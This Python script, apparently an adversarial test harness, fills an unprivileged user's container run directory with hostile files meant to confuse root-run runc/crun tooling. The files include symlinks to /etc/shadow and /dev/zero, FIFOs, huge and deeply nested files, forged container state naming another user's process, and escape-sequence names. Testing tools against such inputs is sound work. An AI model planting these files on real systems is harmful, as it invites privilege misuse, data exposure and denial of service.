"""A program: fills uid 4242's run directory with files that should confuse root's commands.

Run as that user: `python users_containers.py DIRECTORY PID`, PID being a process that is not the
user's.
"""

import json
import os
import sys
from collections.abc import Callable
from pathlib import Path

UID = 4242
DIRECTORIES, WRITTEN = 20_000, 2000
FORGED = "\x1b[31mforged\x07"


def main(own: Path, victim: int) -> None:
    """Create them all."""
    runc, crun = own / "runc", own / "crun"
    for root in (runc, crun):
        root.mkdir(parents=True)
    for name, make in ODD.items():
        make(_made(runc / name) / "state.json")
        make(_made(crun / name) / "status")
    (runc / "linked").symlink_to("/")
    forge(runc, "!victims", victim)
    forge(runc, f"!{FORGED}", victim)
    for number in range(DIRECTORIES):
        many = _made(runc / f"many{number}")
        if number < WRITTEN:
            (many / "state.json").write_text("{")
    _ledger(own)


def _made(directory: Path) -> Path:
    directory.mkdir()
    return directory


def _huge(path: Path) -> None:
    path.touch()
    os.truncate(path, 1 << 34)


ODD: dict[str, Callable[[Path], object]] = {
    "0fifo": os.mkfifo,
    "0link": lambda path: path.symlink_to("/etc/shadow"),
    "0device": lambda path: path.symlink_to("/dev/zero"),
    "0tty": lambda path: path.symlink_to("/dev/tty"),
    "0directory": lambda path: path.mkdir(),
    "0huge": _huge,
    "0deep": lambda path: path.write_text("[" * 900_000),
    "0null": lambda path: path.write_text("null"),
}


def forge(root: Path, name: str, pid: int) -> None:
    """Write the state of a container whose first process would be this one."""
    fields = Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()
    state = {"init_process_pid": pid, "init_process_start": int(fields[19])}
    (_made(root / name) / "state.json").write_text(json.dumps(state))


def _ledger(own: Path) -> None:
    """Claim filters for all of them, and name thousands of roots, some of them not ours."""
    line = {"root": str(own / "runc"), "action": "inject", "filters": 9, "reason": "x" * 300}
    lines = [{**line, "id": name} for name in ["!victims", f"!{FORGED}"]]
    lines += [{**line, "id": f"a{at}", "root": f"/run/user/{UID}/{at}"} for at in range(20_000)]
    lines += [{**line, "id": "b", "root": "/run/runc"}, {**line, "id": "c", "root": "/proc/1/root"}]
    (own / "runc-wrap" / "ledger").mkdir(parents=True)
    text = "".join(json.dumps(one) + "\n" for one in lines)
    (own / "runc-wrap" / "ledger" / "ledger.jsonl").write_text("{\n" * 50_000 + text)


if __name__ == "__main__":
    main(Path(sys.argv[1]), int(sys.argv[2]))
